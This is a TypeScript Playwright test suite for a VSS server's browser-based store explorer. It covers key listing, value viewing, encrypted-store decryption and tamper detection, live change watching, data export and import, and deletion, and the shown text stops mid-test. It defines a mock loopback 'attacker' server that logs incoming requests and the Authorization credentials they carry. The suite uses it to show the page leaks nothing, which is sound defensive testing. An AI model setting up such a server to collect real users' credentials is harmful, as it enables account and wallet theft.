// The explorer in headless Chromium against a real vss-server: served by the server at
// /explorer/, and served from another origin, calling the server through CORS. A link
// cannot make the page send the user's credentials to any other server: an attacker's
// server on loopback records every request it gets, and must get none.
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { mkdirSync, mkdtempSync, rmSync } from "node:fs";
import { readFile } from "node:fs/promises";
import { createServer, type IncomingHttpHeaders, type Server } from "node:http";
import { createServer as createTCPServer, type AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { extname, join, normalize } from "node:path";
import { after, before, describe, it } from "node:test";
import { fileURLToPath } from "node:url";
import {
  EncryptedStore,
  LdkStore,
  exportData,
  keysFromWalletSeed,
  listAllKeyVersions,
  publicKeyHex,
  signingKeyFromWalletSeed,
  verifyDump,
  vssSeedFromWalletSeed,
  type VssClient,
} from "@govss/vss-client";
import { createNodeVssClient } from "@govss/vss-client/node";
import { chromium, type Browser, type Page, type Route } from "playwright-core";
import { startServer, type TestServer } from "../../clients/ts/test/server.js";

const chromiumPath = process.env.CHROMIUM_PATH ?? "/usr/bin/chromium";
// build-test/explorer/test/ holds the compiled test; the build is explorer/dist.
const distDir = fileURLToPath(new URL("../../../dist/", import.meta.url));
const encoder = new TextEncoder();

/**
 * screenshots is where the tests save the explorer README's screenshots: explorer/docs
 * with make explorer-screenshots (EXPLORER_SCREENSHOTS), else a temporary directory.
 */
const screenshots = process.env.EXPLORER_SCREENSHOTS || mkdtempSync(join(tmpdir(), "vss-explorer-shots-"));
mkdirSync(screenshots, { recursive: true });

/** inView reports whether the whole of the element matching selector is inside the viewport. */
async function inView(page: Page, selector: string): Promise<boolean> {
  return page.locator(selector).evaluate((el) => {
    const r = el.getBoundingClientRect();
    return r.height > 0 && r.top >= 0 && r.left >= 0 && r.bottom <= window.innerHeight && r.right <= window.innerWidth;
  });
}

/**
 * serveDist serves the explorer's build from its own loopback origin, with a config.json
 * that allows the servers in allowed (set them before loading the page).
 */
async function serveDist(): Promise<{ origin: string; server: Server; allowed: string[] }> {
  const allowed: string[] = [];
  const types: Record<string, string> = {
    ".html": "text/html; charset=utf-8",
    ".js": "text/javascript",
    ".css": "text/css",
  };
  const server = createServer(async (req, res) => {
    const path = new URL(req.url ?? "/", "http://x").pathname;
    if (path === "/config.json") {
      res.writeHead(200, { "Content-Type": "application/json" }).end(JSON.stringify({ allowedServers: allowed }));
      return;
    }
    const file = normalize(join(distDir, path === "/" ? "index.html" : path));
    if (!file.startsWith(distDir)) {
      res.writeHead(404).end();
      return;
    }
    try {
      const body = await readFile(file);
      res.writeHead(200, { "Content-Type": types[extname(file)] ?? "application/octet-stream" }).end(body);
    } catch {
      res.writeHead(404).end();
    }
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return { origin: `http://127.0.0.1:${port}`, server, allowed };
}

/** A request the attacker's server received. */
interface Received {
  method: string;
  url: string;
  headers: IncomingHttpHeaders;
}

/**
 * startAttacker starts a loopback server that records every request and answers like a
 * VSS server that lets any origin call it: preflights pass, and every call gets an empty
 * Connect JSON message, which the page would show as an empty store.
 */
async function startAttacker(): Promise<{ origin: string; received: Received[]; server: Server }> {
  const received: Received[] = [];
  const server = createServer((req, res) => {
    received.push({ method: req.method ?? "", url: req.url ?? "", headers: req.headers });
    req.resume();
    const cors = {
      "Access-Control-Allow-Origin": req.headers.origin ?? "*",
      "Access-Control-Allow-Methods": "GET, POST, OPTIONS",
      "Access-Control-Allow-Headers": req.headers["access-control-request-headers"] ?? "*",
      "Access-Control-Expose-Headers": "*",
    };
    if (req.method === "OPTIONS") {
      res.writeHead(204, cors).end();
      return;
    }
    res.writeHead(200, { ...cors, "Content-Type": "application/json", "vss-protocol-version": "0" }).end("{}");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return { origin: `http://127.0.0.1:${port}`, received, server };
}

/** describeReceived lists what the attacker got, with the credentials it could steal. */
function describeReceived(received: Received[]): string {
  return received
    .map((r) => {
      const creds = r.headers.authorization ? ` with Authorization: ${r.headers.authorization.slice(0, 40)}…` : "";
      return `${r.method} ${r.url}${creds}`;
    })
    .join("\n");
}

function delay(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

/** freePort returns a loopback port that was free a moment ago. */
async function freePort(): Promise<number> {
  const srv = createTCPServer();
  await new Promise<void>((resolve) => srv.listen(0, "127.0.0.1", resolve));
  const { port } = srv.address() as AddressInfo;
  await new Promise((resolve) => srv.close(resolve));
  return port;
}

/** watchedPage opens a page that records the URL of every request it makes and every CSP violation. */
async function watchedPage(browser: Browser): Promise<{ page: Page; requests: string[]; violations: () => Promise<string[]> }> {
  const page = await browser.newPage();
  page.setDefaultTimeout(15_000);
  const requests: string[] = [];
  page.on("request", (r) => requests.push(r.url()));
  await page.addInitScript(() => {
    const seen: string[] = [];
    (globalThis as unknown as { cspViolations: string[] }).cspViolations = seen;
    document.addEventListener("securitypolicyviolation", (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
  });
  const violations = () => page.evaluate(() => (globalThis as unknown as { cspViolations?: string[] }).cspViolations ?? []);
  return { page, requests, violations };
}

/** settled waits until the page's status shows the outcome of the last action. */
async function settled(page: Page): Promise<void> {
  await page.waitForFunction(() => {
    const text = document.querySelector("#status")?.textContent ?? "";
    return text !== "" && !text.endsWith("…");
  });
}

/** waitForText waits until the element matching selector contains text. */
async function waitForText(page: Page, selector: string, text: string): Promise<void> {
  try {
    await page.waitForFunction(
      ([sel, want]) => document.querySelector(sel!)?.textContent?.includes(want!) ?? false,
      [selector, text],
    );
  } catch (err) {
    const status = await page.locator("#status").textContent();
    throw new Error(`${selector} never showed ${JSON.stringify(text)} (status: ${status})`, { cause: err });
  }
}

/** shownKeys returns the keys in the listing's current page. */
async function shownKeys(page: Page): Promise<string[]> {
  return page.locator("#keys button.key").allTextContents();
}

/** signIn opens the explorer at url and lists store with privateKey. */
async function signIn(page: Page, url: string, privateKey: string, store: string, pageSize = 10): Promise<void> {
  await page.goto(url);
  await page.fill("#private-key", privateKey);
  await page.fill("#store-id", store);
  await page.fill("#page-size", String(pageSize));
  await page.click("#load");
}

describe("store explorer in Chromium", () => {
  let vss: TestServer;
  let noCors: TestServer;
  let pages: { origin: string; server: Server; allowed: string[] };
  let browser: Browser;
  let page: Page;

  before(async () => {
    pages = await serveDist();
    vss = await startServer(["--auth", "signature", "--explorer", "--cors-origins", pages.origin]);
    noCors = await startServer(["--auth", "signature", "--explorer"]);
    browser = await chromium.launch({ executablePath: chromiumPath, headless: true });
    const context = await browser.newContext({
      viewport: { width: 1100, height: 760 },
      permissions: ["clipboard-read", "clipboard-write"],
      acceptDownloads: true,
    });
    page = await context.newPage();
    page.setDefaultTimeout(15_000);
  });

  after(async () => {
    await browser?.close();
    await vss?.stop();
    await noCors?.stop();
    await new Promise((resolve) => pages?.server.close(resolve));
  });

  it("lists the keys a wallet writes, pages through them and shows values", async () => {
    const key = randomBytes(32).toString("hex");
    const wallet: VssClient = createNodeVssClient(vss.baseUrl, { auth: { privateKey: key } });
    const store = "wallet";

    await signIn(page, vss.baseUrl + "/explorer/", key, store);
    await waitForText(page, "#status", "has no keys.");
    assert.equal(await page.textContent("#user"), publicKeyHex(key));
    assert.equal(await page.textContent("#global-version"), "0");

    await wallet.putObjects({
      storeId: store,
      globalVersion: 0n,
      transactionItems: [{ key: "greeting", version: 0n, value: encoder.encode("hello, world") }],
    });
    await page.click("#refresh");
    await page.locator('#keys button.key[data-key="greeting"]').waitFor();
    assert.equal(await page.textContent("#global-version"), "1");

    const more = Array.from({ length: 23 }, (_, i) => `channel/${String(i).padStart(2, "0")}`);
    for (const k of more) {
      await wallet.putObjects({ storeId: store, transactionItems: [{ key: k, version: 0n, value: encoder.encode(k) }] });
    }
    await wallet.putObjects({ storeId: store, transactionItems: [{ key: "binary", version: 0n, value: Uint8Array.of(0xff, 0x00, 0x10) }] });
    await wallet.putObjects({ storeId: store, transactionItems: [{ key: "greeting", version: 1n, value: encoder.encode("hello again") }] });

    await page.click("#load");
    await waitForText(page, "#status", "Page 1: 10 keys.");
    const seen = await shownKeys(page);
    assert.equal(seen[0], "binary", "newest created first");
    assert.ok(await page.isDisabled("#prev-page"));

    await page.click("#next-page");
    await waitForText(page, "#status", "Page 2: 10 keys.");
    assert.equal(await page.textContent("#page-number"), "2");
    seen.push(...(await shownKeys(page)));

    await page.click("#next-page");
    await waitForText(page, "#status", "Page 3: 5 keys.");
    const last = await shownKeys(page);
    seen.push(...last);
    assert.ok(await page.isDisabled("#next-page"), "the last page has no next page");
    assert.deepEqual(seen, ["binary", ...[...more].reverse(), "greeting"]);
    const greetingVersion = await page.locator('#keys tr:has(button.key[data-key="greeting"]) td:last-child').textContent();
    assert.equal(greetingVersion, "2");

    await page.click("#prev-page");
    await waitForText(page, "#status", "Page 2: 10 keys.");
    assert.deepEqual(await shownKeys(page), seen.slice(10, 20));
    await page.click("#next-page");
    await waitForText(page, "#status", "Page 3: 5 keys.");

    await page.click('#keys button.key[data-key="greeting"]');
    await waitForText(page, "#value-content", "hello again");
    assert.ok(await page.isHidden("#value-note"));
    assert.equal(await page.textContent("#value-key"), "greeting");
    assert.equal(await page.textContent("#value-version"), "2");
    assert.equal(await page.textContent("#value-size"), "11");
    assert.ok(await page.isChecked("#format-utf8"));
    await page.check("#format-hex");
    await waitForText(page, "#value-content", "68 65 6c 6c 6f 20 61 67 61 69 6e");

    // Copy puts the whole value on the clipboard in the format shown; Download saves its bytes.
    await page.click("#value-copy");
    await waitForText(page, "#value-status", "Copied");
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), "00000000  68 65 6c 6c 6f 20 61 67 61 69 6e");
    await page.check("#format-utf8");
    await page.click("#value-copy");
    await waitForText(page, "#value-status", "Copied 11 characters");
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), "hello again");
    const [download] = await Promise.all([page.waitForEvent("download"), page.click("#value-download")]);
    assert.equal(download.suggestedFilename(), "greeting");
    assert.deepEqual(await readFile((await download.path())!), Buffer.from("hello again"));
    await page.click("#value-close");
    assert.ok(await page.isHidden("#value"));

    // Bytes that are not UTF-8 show as hex, and the control says so: UTF-8 cannot be chosen.
    await page.click("#first-page");
    await waitForText(page, "#status", "Page 1: 10 keys.");
    await page.click('#keys button.key[data-key="binary"]');
    await waitForText(page, "#value-content", "ff 00 10");
    assert.equal(await page.getAttribute("#value-content", "data-format"), "hex", "bytes that are not UTF-8 show as hex");
    assert.ok(await page.isChecked("#format-hex"), "the control shows the format on screen");
    assert.ok(await page.isDisabled("#format-utf8"));
    assert.ok(await page.isVisible("#value-note"));
    const [raw] = await Promise.all([page.waitForEvent("download"), page.click("#value-download")]);
    assert.deepEqual(await readFile((await raw.path())!), Buffer.from([0xff, 0x00, 0x10]));
    await page.keyboard.press("Escape");
    assert.ok(await page.isHidden("#value"));

    // A value opened from the bottom of a long page shows where the user is looking.
    await page.fill("#page-size", "100");
    await page.click("#load");
    await waitForText(page, "#status", "Page 1: 25 keys.");
    await page.screenshot({ path: join(screenshots, "explorer-keys.png"), fullPage: true });
    const lowest = page.locator('#keys button.key[data-key="greeting"]');
    await lowest.scrollIntoViewIfNeeded();
    assert.ok(await page.evaluate(() => window.scrollY > 0), "the last key is below the fold");
    await lowest.click();
    await waitForText(page, "#value-content", "hello again");
    assert.ok(await inView(page, "#value"), "the value opened off-screen");
    await page.screenshot({ path: join(screenshots, "explorer-value.png") });
    await page.click("#value-close");

    // The page serves no more than a server sends.
    await page.fill("#page-size", "500");
    await page.click("#load");
    await waitForText(page, "#status", "from 1 to 100");
    assert.ok(await page.isHidden("#listing"), "the last listing stays in view under an error");
    assert.equal(await page.locator("#load").evaluate((el) => getComputedStyle(el).fontWeight), "700", "the main action stands out");

    // Another key is another user: the same store id is empty for it.
    await signIn(page, vss.baseUrl + "/explorer/", randomBytes(32).toString("hex"), store);
    await waitForText(page, "#status", "has no keys.");
  });

  it("reads encrypted stores with a wallet seed or its keys, which no request carries", async () => {
    const key = randomBytes(32).toString("hex");
    const walletSeed = randomBytes(64);
    const keys = keysFromWalletSeed(walletSeed);
    const wallet: VssClient = createNodeVssClient(vss.baseUrl, { auth: { privateKey: key } });
    // Everything secret, as text and as bytes: no request may carry any of it.
    const secrets = [walletSeed, vssSeedFromWalletSeed(walletSeed), keys.dataEncryptionKey, keys.obfuscationMasterKey].map((b) => Buffer.from(b));

    // A store as vss-client-ng applications write it, with the lies of a server in it.
    const enc = new EncryptedStore(wallet, keys);
    await enc.put("vault", [{ key: "greeting", value: encoder.encode("hello, privately"), version: 0n }]);
    await enc.put("vault", [{ key: "greeting", value: encoder.encode("hello again, privately"), version: 1n }]);
    await enc.put("vault", [
      { key: "swapped", value: encoder.encode("mine"), version: 0n },
      { key: "rolled-back", value: encoder.encode("old"), version: 0n },
    ]);
    const old = (await wallet.getObject({ storeId: "vault", key: enc.storageKey("rolled-back") })).value!.value;
    await enc.put("vault", [{ key: "rolled-back", value: encoder.encode("new"), version: 1n }]);
    await wallet.putObjects({ storeId: "vault", transactionItems: [{ key: enc.storageKey("rolled-back"), version: 2n, value: old }] });
    const greeting = (await wallet.getObject({ storeId: "vault", key: enc.storageKey("greeting") })).value!.value;
    await wallet.putObjects({ storeId: "vault", transactionItems: [{ key: enc.storageKey("swapped"), version: 1n, value: greeting }] });
    await wallet.putObjects({ storeId: "vault", transactionItems: [{ key: "written-in-clear", version: 0n, value: encoder.encode("x") }] });

    // LDK Node's stores: V1 (new) and V0 (found by its wallet keys).
    const ldk = await LdkStore.open(wallet, keys, "ldk-wallet");
    await ldk.write("", "", "manager", encoder.encode("channel manager"));
    await ldk.write("monitors", "", "abc_1", encoder.encode("monitor 1"));
    await ldk.write("monitors", "updates", "abc_1_7", encoder.encode("update 7"));
    const v0 = await LdkStore.open(wallet, keys, "ldk-old", { schema: "V0" });
    await v0.write("bdk_wallet", "", "descriptor", encoder.encode("wpkh(...)"));
    await v0.write("", "", "manager", encoder.encode("old manager"));

    const context = page.context();
    const encPage = await context.newPage();
    encPage.setDefaultTimeout(15_000);
    const sent: { url: string; headers: Record<string, string>; body: Buffer | null }[] = [];
    encPage.on("request", (r) => sent.push({ url: r.url(), headers: r.headers(), body: r.postDataBuffer() }));
    try {
      await encPage.goto(vss.baseUrl + "/explorer/");
      assert.ok(await encPage.isVisible("#encryption-note"));
      assert.match(await encPage.innerText("#encryption-note"), /kept only in this page's memory: never sent .* never stored/);
      await encPage.fill("#private-key", key);
      await encPage.fill("#store-id", "vault");
      await encPage.check('input[name="encryption"][value="seed"]');
      assert.equal(await encPage.getAttribute("#wallet-seed", "type"), "password");
      await encPage.fill("#wallet-seed", "abc");
      await encPage.click("#load");
      await waitForText(encPage, "#status", "client-side encryption: the wallet seed is not 32 to 128 hex characters");
      await encPage.fill("#wallet-seed", walletSeed.toString("hex"));
      await encPage.click("#load");
      await waitForText(encPage, "#status", "Page 1: 4 keys. 1 cannot be read with these keys.");
      assert.match((await encPage.textContent("#encryption-state")) ?? "", /^Encrypted store \(vss-client-ng\)/);
      assert.deepEqual(await shownKeys(encPage), ["rolled-back", "swapped", "greeting"]);
      assert.equal(await encPage.textContent("#keys tr.unreadable code.storage-key"), "written-in-clear");
      assert.ok(await encPage.isHidden("#namespace-head"));

      await encPage.click('#keys button.key[data-key="greeting"]');
      await waitForText(encPage, "#value-content", "hello again, privately");
      assert.equal(await encPage.textContent("#value-version"), "2");
      assert.equal(await encPage.textContent("#value-storage-key"), enc.storageKey("greeting"));
      assert.equal(
        await encPage.textContent("#value-verify"),
        "Decrypted and verified: the tag covers the value and the key it is stored under. Sealed version 1 agrees with the server's version 2.",
      );
      assert.equal(await encPage.getAttribute("#value-verify", "class"), "verify-ok");
      await encPage.screenshot({ path: join(screenshots, "explorer-encrypted.png") });
      await encPage.click("#value-close");

      // The server's lies: refused, said so, nothing of the value shown.
      await encPage.click('#keys button.key[data-key="swapped"]');
      await waitForText(encPage, "#value-verify", "Verification failed (AUTHENTICATION): the tag does not verify.");
      assert.equal(await encPage.getAttribute("#value-verify", "role"), "alert");
      assert.ok(await encPage.isHidden("#value-body"));
      assert.ok(await encPage.isHidden("#value-meta"));
      assert.equal(await encPage.textContent("#value-content"), "");
      await waitForText(encPage, "#status", "Reading swapped failed verification: nothing of it is shown.");
      assert.ok(await encPage.locator("#status.error").isVisible());
      await encPage.screenshot({ path: join(screenshots, "explorer-verification.png") });
      await encPage.click("#value-close");
      await encPage.click('#keys button.key[data-key="rolled-back"]');
      await waitForText(
        encPage,
        "#value-verify",
        "Verification failed (VERSION): the value was written as version 1, but the server serves it as version 3: an older value served as newer (a rollback).",
      );
      await encPage.click("#value-close");

      // The derived keys instead of the seed, on LDK Node's V1 store: namespaces in clear.
      await encPage.check('input[name="encryption"][value="keys"]');
      assert.ok(await encPage.isHidden("#wallet-seed"));
      await encPage.fill("#data-key", Buffer.from(keys.dataEncryptionKey).toString("hex"));
      await encPage.fill("#obfuscation-key", Buffer.from(keys.obfuscationMasterKey).toString("hex"));
      await encPage.fill("#store-id", "ldk-wallet");
      await encPage.click("#load");
      await waitForText(encPage, "#status", "Page 1: 4 keys.");
      assert.match((await encPage.textContent("#encryption-state")) ?? "", /^LDK Node store, schema V1 \(found by its vss_schema_version key\)/);
      assert.ok(await encPage.isVisible("#namespace-head"));
      assert.deepEqual(
        await encPage.locator("#keys tr").evaluateAll((rows) => rows.map((r) => Array.from(r.querySelectorAll("td")).slice(0, 2).map((c) => c.textContent))),
        [
          ["monitors/updates", "abc_1_7"],
          ["monitors/", "abc_1"],
          ["/", "manager"],
          ["/", "vss_schema_version"],
        ],
      );
      await encPage.screenshot({ path: join(screenshots, "explorer-ldk.png"), fullPage: true });
      await encPage.click('#keys button.key[data-namespace="monitors/updates"][data-key="abc_1_7"]');
      await waitForText(encPage, "#value-content", "update 7");
      assert.equal(await encPage.textContent("#value-key"), "monitors/updates/abc_1_7");
      assert.match((await encPage.textContent("#value-verify")) ?? "", /Written unconditionally \(sealed version -1\): there is no version to compare\.$/);
      await encPage.click("#value-close");

      // Watching shows the keys of changes in clear too.
      await encPage.check("#watch");
      await waitForText(encPage, "#watch-state", "Live");
      await ldk.write("payments", "", "p_1", encoder.encode("a payment"));
      await encPage.locator('#change-rows tr[data-key="p_1"]').waitFor();
      assert.equal(await encPage.locator('#change-rows tr[data-key="p_1"] td:nth-child(2)').textContent(), "payments//p_1");
      await encPage.uncheck("#watch");

      // LDK Node's first layout, from the seed again.
      await encPage.check('input[name="encryption"][value="seed"]');
      await encPage.fill("#store-id", "ldk-old");
      await encPage.click("#load");
      await waitForText(encPage, "#status", "Page 1: 2 keys.");
      assert.match((await encPage.textContent("#encryption-state")) ?? "", /schema V0 \(no schema key, but keys under bdk_wallet#/);
      await encPage.click('#keys button.key[data-namespace="bdk_wallet/"][data-key="descriptor"]');
      await waitForText(encPage, "#value-content", "wpkh(...)");
      assert.match((await encPage.textContent("#value-verify")) ?? "", /V0 layout binds no key/);
      await encPage.click("#value-close");

      // Another seed reads nothing: every key is marked, none opens.
      await encPage.fill("#wallet-seed", randomBytes(64).toString("hex"));
      await encPage.fill("#store-id", "vault");
      await encPage.click("#load");
      await waitForText(encPage, "#status", "Page 1: 4 keys. 4 cannot be read with these keys.");
      assert.equal(await encPage.locator("#keys button.key").count(), 0);

      // The seed signs too, as LDK Node does (m/877'/139'): the wallet's own user.
      const signingKey = signingKeyFromWalletSeed(walletSeed);
      secrets.push(Buffer.from(signingKey));
      const asWallet = await LdkStore.open(createNodeVssClient(vss.baseUrl, { auth: { privateKey: signingKey } }), keys, "ldk-node");
      await asWallet.write("bdk_wallet", "", "descriptor", encoder.encode("the wallet's own"));
      await encPage.check('input[name="auth"][value="seed"]');
      assert.ok(await encPage.isHidden("#private-key"));
      assert.ok(await encPage.isVisible("#seed-auth-note"));
      await encPage.check('input[name="encryption"][value="off"]');
      await encPage.check('input[name="auth"][value="signature"]');
      await encPage.check('input[name="auth"][value="seed"]');
      assert.ok(await encPage.isChecked('input[name="encryption"][value="seed"]'), "signing with the seed asks for it under encryption");
      await encPage.fill("#wallet-seed", walletSeed.toString("hex"));
      await encPage.fill("#store-id", "ldk-node");
      await encPage.click("#load");
      await waitForText(encPage, "#status", "Page 1: 2 keys.");
      assert.equal(await encPage.textContent("#user"), publicKeyHex(signingKey));
      await encPage.click('#keys button.key[data-namespace="bdk_wallet/"][data-key="descriptor"]');
      await waitForText(encPage, "#value-content", "the wallet's own");
      await encPage.click("#value-close");
      await encPage.fill("#wallet-seed", "");
      await encPage.click("#load");
      await waitForText(encPage, "#status", "signing with the wallet seed: the wallet seed is not 32 to 128 hex characters");

      // Nothing secret left the page or stayed in it.
      assert.ok(sent.some((r) => r.url.includes("/vss.v1.VssService/GetObject")), "no value was read");
      for (const r of sent) {
        const text = `${r.url}\n${Object.entries(r.headers).map(([k, v]) => `${k}: ${v}`).join("\n")}`.toLowerCase();
        for (const secret of secrets) {
          assert.ok(!text.includes(secret.toString("hex")), `${r.url} carries a secret in its address or headers`);
          assert.ok(!text.includes(secret.toString("base64").toLowerCase()), `${r.url} carries a secret in base64`);
          assert.ok(!r.body?.includes(secret), `${r.url} carries a secret in its body`);
          assert.ok(!r.body?.includes(secret.toString("hex")), `${r.url} carries a secret in hex in its body`);
        }
      }
      assert.deepEqual(
        await encPage.evaluate(() => [localStorage.length, sessionStorage.length, document.cookie]),
        [0, 0, ""],
        "the page stored something",
      );
      console.log(`encrypted stores: ${sent.length} requests, none carrying the seed or its keys`);
    } finally {
      await encPage.close();
    }
  });

  it("shows a store's changes live, and says when it reconnects", async () => {
    // A server of its own, with the embedded store, that the test restarts on its port.
    const dir = mkdtempSync(join(tmpdir(), "vss-explorer-watch-"));
    const flags = ["--auth", "signature", "--explorer", "--database-url", "", "--data-dir", dir];
    let live = await startServer(flags);
    const { page } = await watchedPage(browser);
    try {
      const key = randomBytes(32).toString("hex");
      const store = "watched";
      const phone: VssClient = createNodeVssClient(live.baseUrl, { auth: { privateKey: key }, deviceId: "phone" });
      await phone.putObjects({ storeId: store, transactionItems: [{ key: "old", version: 0n }] });

      await signIn(page, live.baseUrl + "/explorer/", key, store);
      await waitForText(page, "#status", "Page 1: 1 key.");
      assert.ok(await page.isVisible("#changes"));
      assert.equal(await page.getAttribute("#watch-state", "data-state"), "off");
      await page.check("#watch");
      await waitForText(page, "#watch-state", "Live");
      assert.equal(await page.locator("#change-rows tr").count(), 0, "only changes after the watch started");

      await phone.putObjects({ storeId: store, transactionItems: [{ key: "greeting", version: 0n, value: encoder.encode("hi") }] });
      const row = page.locator('#change-rows tr[data-key="greeting"]');
      await row.waitFor();
      assert.deepEqual(await row.locator("td").allTextContents().then((cells) => cells.slice(1)), ["greeting", "written", "phone", "1"]);
      await phone.deleteObject({ storeId: store, keyValue: { key: "old", version: -1n } });
      await page.locator('#change-rows tr[data-key="old"][data-deleted="true"]').waitFor();
      assert.deepEqual(
        await page.locator("#change-rows tr").evaluateAll((rows) => rows.map((r) => (r as HTMLElement).dataset.key)),
        ["old", "greeting"],
        "newest first",
      );
      await page.screenshot({ path: join(screenshots, "explorer-live.png"), fullPage: true });

      // The server goes away: the panel says so, then catches up once it is back.
      const listen = new URL(live.baseUrl).host;
      await live.stop();
      await waitForText(page, "#watch-state", "reconnecting");
      assert.equal(await page.getAttribute("#watch-state", "data-state"), "reconnecting");
      live = await startServer([...flags, "--listen", listen]);
      const again: VssClient = createNodeVssClient(live.baseUrl, { auth: { privateKey: key }, deviceId: "laptop" });
      await again.putObjects({ storeId: store, transactionItems: [{ key: "after-restart", version: 0n }] });
      await page.locator('#change-rows tr[data-key="after-restart"][data-device="laptop"]').waitFor({ timeout: 30_000 });
      await waitForText(page, "#watch-state", "Live");
      assert.equal(await page.locator("#change-rows tr").count(), 3, "no change shown twice");

      await page.uncheck("#watch");
      await waitForText(page, "#watch-state", "Off.");
      await again.putObjects({ storeId: store, transactionItems: [{ key: "unwatched", version: 0n }] });
      await delay(300);
      assert.equal(await page.locator('#change-rows tr[data-key="unwatched"]').count(), 0, "no changes once off");
    } finally {
      await page.close();
      await live.stop();
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it("exports a user's data, imports it as another user through the file input, and deletes a store and all data", async () => {
    const keyA = randomBytes(32).toString("hex");
    const keyB = randomBytes(32).toString("hex");
    const a = createNodeVssClient(vss.baseUrl, { auth: { privateKey: keyA } });
    const b = createNodeVssClient(vss.baseUrl, { auth: { privateKey: keyB } });
    await a.putObjects({ storeId: "", transactionItems: [{ key: "only", version: 0n, value: encoder.encode("x") }] });
    await a.putObjects({
      storeId: "wallet",
      globalVersion: 0n,
      transactionItems: [
        { key: "manager", version: 0n, value: encoder.encode("m") },
        { key: "big", version: 0n, value: randomBytes(3 << 20) }, // larger than a chunk, both ways
      ],
    });
    await a.putObjects({ storeId: "wallet", transactionItems: [{ key: "monitors/1", version: 0n, value: encoder.encode("m1") }] });
    /** dumpOf exports a user's data from Node and returns its checksum and store count. */
    const dumpOf = async (vss: VssClient) => {
      const exp = exportData(vss);
      await exp.toBlob();
      return { sha256: Buffer.from(exp.summary!.sha256).toString("hex"), stores: exp.summary!.stores };
    };
    const { sha256 } = await dumpOf(a);

    const dataPage = await page.context().newPage();
    dataPage.setDefaultTimeout(30_000);
    const downloads = mkdtempSync(join(tmpdir(), "vss-explorer-dump-"));
    try {
      // Export all data, as user A: a .vssdump file, with what it holds and its checksum.
      await dataPage.goto(vss.baseUrl + "/explorer/");
      await dataPage.fill("#private-key", keyA);
      const [download] = await Promise.all([dataPage.waitForEvent("download"), dataPage.click("#export-start")]);
      assert.match(download.suggestedFilename(), new RegExp(`^vss-${publicKeyHex(keyA).slice(0, 16)}-\\d{4}-\\d{2}-\\d{2}\\.vssdump$`));
      const file = join(downloads, download.suggestedFilename());
      await download.saveAs(file);
      await waitForText(dataPage, "#export-status", "Exported and verified");
      assert.equal(await dataPage.textContent("#export-sha256"), sha256, "the checksum shown is the export's");
      assert.equal(await dataPage.textContent("#export-stores"), "2");
      assert.equal(await dataPage.textContent("#export-entries"), "4");
      const saved = await readFile(file);
      assert.equal(Buffer.from((await verifyDump(new Uint8Array(saved))).sha256).toString("hex"), sha256, "the file saved is the dump");

      // Import it as user B, through the file input.
      await dataPage.fill("#private-key", keyB);
      await dataPage.setInputFiles("#import-file", file);
      assert.match(await dataPage.inputValue("#import-id"), new RegExp(`^explorer ${saved.length} \\d+ `));
      await dataPage.click("#import-start");
      await waitForText(dataPage, "#import-status", "Imported");
      assert.equal(await dataPage.textContent("#import-sha256"), sha256, "the checksum shown is the dump's");
      assert.equal(await dataPage.textContent("#import-stores"), "2");
      assert.equal(await dataPage.textContent("#import-entries"), "4");
      assert.ok(await dataPage.isHidden("#import-abort"));
      assert.equal((await dumpOf(b)).sha256, sha256, "user B holds what user A holds");
      for (const store of ["", "wallet"]) {
        assert.deepEqual(await listAllKeyVersions(b, store), await listAllKeyVersions(a, store), `store ${JSON.stringify(store)}`);
      }

      // Delete B's store "wallet": the dry run's counts first, the button works only once the id is typed.
      await dataPage.fill("#private-key", keyB);
      await dataPage.fill("#store-id", "wallet");
      await dataPage.click("#delete-store-check");
      await waitForText(dataPage, "#delete-store-counts", 'The store "wallet" of user');
      await waitForText(dataPage, "#delete-store-counts", "holds 4 keys");
      assert.ok(await dataPage.isDisabled("#delete-store-go"));
      await dataPage.fill("#delete-store-typed", "walle");
      assert.ok(await dataPage.isDisabled("#delete-store-go"), "a wrong store id lets the button work");
      await dataPage.fill("#delete-store-typed", "wallet");
      assert.ok(await dataPage.isEnabled("#delete-store-go"));
      await dataPage.locator("#data").screenshot({ path: join(screenshots, "explorer-data.png") });
      assert.equal((await listAllKeyVersions(b, "wallet")).keyVersions.length, 3, "the dry run deleted something");
      await dataPage.click("#delete-store-go");
      await waitForText(dataPage, "#delete-store-status", 'Deleted the store "wallet": 4 keys');
      assert.ok(await dataPage.isHidden("#delete-store-confirm"));
      assert.deepEqual(await listAllKeyVersions(b, "wallet"), { keyVersions: [], globalVersion: 0n });
      assert.equal((await listAllKeyVersions(b, "")).keyVersions.length, 1, "the other store is kept");

      // Delete all of B's data, after typing the phrase.
      await dataPage.click("#delete-all-check");
      await waitForText(dataPage, "#delete-all-counts", "has 1 store with 1 key");
      await dataPage.fill("#delete-all-typed", "delete all");
      assert.ok(await dataPage.isDisabled("#delete-all-go"));
      await dataPage.fill("#delete-all-typed", "delete all data");
      await dataPage.click("#delete-all-go");
      await waitForText(dataPage, "#delete-all-status", "Deleted all data: 1 store, 1 key");
      assert.equal((await dumpOf(b)).stores, 0);
      await dataPage.click("#delete-all-check");
      await waitForText(dataPage, "#delete-all-status", "no data on this server");
      assert.equal((await dumpOf(a)).sha256, sha256, "user A's data is untouched");

      // An import stopped half-way resumes with the same file; another one is given up.
      const slow = async (route: Route) => {
        await delay(800); // time to press Stop while a chunk is on its way
        await route.continue();
      };
      await dataPage.route("**/vss.v1.VssService/ImportData", slow);
      const stopAndResume = async (key: string) => {
        await dataPage.fill("#private-key", key);
        await dataPage.setInputFiles("#import-file", file);
        await dataPage.click("#import-start");
        await waitForText(dataPage, "#import-status", "committed");
        await dataPage.click("#import-stop");
        await waitForText(dataPage, "#import-status", "Stopped at");
        assert.ok(await dataPage.isVisible("#import-abort"));
      };
      const keyD = randomBytes(32).toString("hex");
      const d = createNodeVssClient(vss.baseUrl, { auth: { privateKey: keyD } });
      await stopAndResume(keyD);
      assert.equal((await listAllKeyVersions(d, "")).keyVersions.length, 1, "the first chunk was committed");
      await dataPage.click("#import-start");
